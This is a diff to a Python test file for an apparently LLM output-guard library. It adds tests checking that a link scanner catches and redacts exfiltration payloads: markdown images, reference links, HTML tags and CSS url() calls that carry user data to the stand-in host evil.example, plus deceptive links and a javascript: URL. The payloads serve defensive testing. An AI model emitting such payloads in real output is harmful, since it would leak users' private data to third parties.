@@ -6,10 +6,11 @@ import sys
 import types
 from typing import Any
 
+import pydantic
 import pytest
 
 from trimtab.core import BadInput
-from trimtab.guard import SCANNERS, STAGES, Context, Match, read
+from trimtab.guard import SCANNERS, STAGES, Context, Match, StreamScanner, compile_policy, read
 from trimtab.guard.language import language_of
 from trimtab.guard.scanner import WHOLE
 
@@ -37,6 +38,10 @@ def test_every_card_is_whole() -> None:
         assert card.longest == WHOLE or 0 < card.longest <= 4096
 
 
+#: Something that an address may carry away.
+BLOB = "c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI"
+
+
 @pytest.mark.parametrize(
     ("kind", "text"),
     [
@@ -44,6 +49,17 @@ def test_every_card_is_whole() -> None:
         ("image-exfiltration", "<img src='https://evil.example/?q=the user said that her card number is'>"),
         ("image-exfiltration", "![](https://webhook.site/abc)"),
         ("image-exfiltration", f"![a](https://{'4a6f686e20446f65' * 3}.evil.example/i.png)"),
+        ("image-exfiltration", f"![a][b c]\n\n[B  c]: https://evil.example/p?d={BLOB}"),
+        ("image-exfiltration", f"![logo]\n[logo]: <https://evil.example/p?d={BLOB}> 'a title'"),
+        ("image-exfiltration", f"[b]: https://evil.example/p?d={BLOB}\ntext ![a][b]"),
+        ("image-exfiltration", f"<picture><source srcset='/a.png 1x, https://evil.example/{BLOB}{BLOB} 2x'></picture>"),
+        ("image-exfiltration", f'<iframe width=1 src="https://evil.example/?q={BLOB}"></iframe>'),
+        ("image-exfiltration", f'<video poster="https://evil.example/?q={BLOB}">'),
+        ("image-exfiltration", f"<svg><image href='https://evil.example/?q={BLOB}'/></svg>"),
+        ("image-exfiltration", f"<style>p {{ list-style: url(https://evil.example/?q={BLOB}) }}</style>"),
+        ("image-exfiltration", f"<style>@import url('https://evil.example/{BLOB}{BLOB}')</style>"),
+        ("image-exfiltration", "![](https://evil.example/her%20card%20number%20ends%20in%204711.png)"),
+        ("image-exfiltration", "![](https://4a6f686e2044.6f65206c6976.6573.evil.example/i.png)"),
         ("deceptive-link", "[www.mybank.com](https://login.evil.example/x)"),
         ("deceptive-link", "<a href='https://evil.example/'>paypal.com</a>"),
         ("deceptive-link", "https://mybank.com@evil.example/login"),
@@ -66,10 +82,44 @@ def test_unsafe_links(kind: str, text: str) -> None:
         "[docs.example.com](https://docs.example.com/start) and [example.com](https://www.example.com/)",
         "Use http://127.0.0.1:8000 or http://localhost:4100/healthz while testing.",
         "data:image/png;base64,iVBORw0KGgo= is an image",
+        "![chart][1] and [guide][2]\n\n[1]: /img/a.png\n[2]: https://docs.example.com/search?q=how+to+set+up+a+stream",
+        "<img src='https://cdn.example.com/a.png' srcset='https://cdn.example.com/a.png 1x, /b.png 2x'>",
+        "<link rel='stylesheet' href='https://cdn.example.com/bootstrap/5.3/bootstrap.min.css'> a: url(/x.png)",
+        "![](https://cdn.example.com/My%20new%20file.png) and ![d][e] without an address",
+        "![Published](https://badges.example/badge/Trusted_publishing-Provides_attestations-bright_green)",
+        '<img src="https://b.example/v/pyrate-limiter?color=E5484D" alt="PyPI version"></a>\n <a href="https://pypi.example/">',
+        "![Coverage](https://coverage-badge.somebody-or-other.workers.example/project/project.svg)",
     ],
 )
 def test_ordinary_links_pass(text: str) -> None:
     assert not found("links", text)
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        (f"a ![x](https://evil.example/p?d={BLOB} 'title') b", "a [links] b"),
+        (f"a ![x](<https://evil.example/p?d={BLOB}>) b", "a [links] b"),
+        (f'a <img alt="x" src="https://evil.example/p?d={BLOB}"> b', "a [links] b"),
+        (f"a ![x][y] b\n[y]: https://evil.example/p?d={BLOB}", "a ![x][y] b\n[links]"),
+        ("[click](javascript:alert(1)) b", "[click]([links]) b"),
+    ],
+)
+def test_what_carries_data_away_is_taken_out_whole_also_from_a_stream(text: str, left: str) -> None:
+    content = {"stages": {"output": [{"scanner": "links", "action": "redact", "threshold": 0.9}]}}
+    policy = compile_policy(content)
+    assert policy.scan("output", text).text.replace("redacted:", "") == left
+    for size in (1, 7, 64):
+        stream = StreamScanner(policy)
+        pieces = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
+        assert "".join([*pieces, stream.close()]).replace("redacted:", "") == left
+
+
+def test_code_that_looks_like_an_image_does_not_stop_a_stream() -> None:
+    stream = StreamScanner(compile_policy({"stages": {"output": [{"scanner": "links", "action": "redact"}]}}))
+    text = "#![no_std]\nlet v = vec![1, 2, 3];\n" + "let a = v[0]; // more\n" * 60
+    out = sum(len(stream.feed(text[at : at + 8])) for at in range(0, len(text), 8))
+    assert len(text) - out < 64
 
 
 def test_links_know_hosts_and_the_conversation() -> None:
@@ -340,3 +390,20 @@ def test_the_adapters_speak_to_their_libraries(monkeypatch: pytest.MonkeyPatch) 
     ):
         with pytest.raises(BadInput):
             SCANNERS["llm-guard"].build(options)
+
+
+def test_a_pydantic_model_gives_the_schema() -> None:
+    class Line(pydantic.BaseModel):
+        item: str
+        count: int = pydantic.Field(ge=1)
+
+    class Order(pydantic.BaseModel):
+        lines: list[Line]
+        note: str | None = None
+
+    schema = Order.model_json_schema()
+    assert "$defs" in schema
+    assert not found("json", '{"lines": [{"item": "pump", "count": 2}]}', schema=schema)
+    for line in ('{"item": "pump", "count": 0}', '{"item": 3, "count": 1}', '"pump"'):
+        wrong = f'{{"lines": [{line}]}}'
+        assert {match.kind for match in found("json", wrong, schema=schema)} == {"schema"}
